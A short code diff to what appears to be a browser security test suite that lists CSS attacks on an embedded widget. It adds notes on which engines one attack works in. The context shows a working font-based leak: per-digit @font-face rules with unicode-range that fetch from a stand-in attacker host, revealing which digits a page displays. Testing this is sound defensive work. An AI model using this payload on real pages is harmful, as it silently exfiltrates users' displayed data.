@@ -29,6 +29,8 @@ export const CSS: readonly Attack[] = [
     what: 'has a font per digit, by unicode-range, inherited into the widget and set on its parts',
     aim: 'reading',
     control: 'reads',
+    engines: ['chromium', 'firefox'],
+    why: 'WebKitGTK asks for all ten fonts at the first digit, so it tells nothing',
     script: `${wear}
       const text = [];
       for (const digit of '0123456789') text.push('@font-face { font-family: skim; src: url("' + EVIL + '/digit-' + digit + '") format("woff2"); unicode-range: U+003' + digit + ' }');
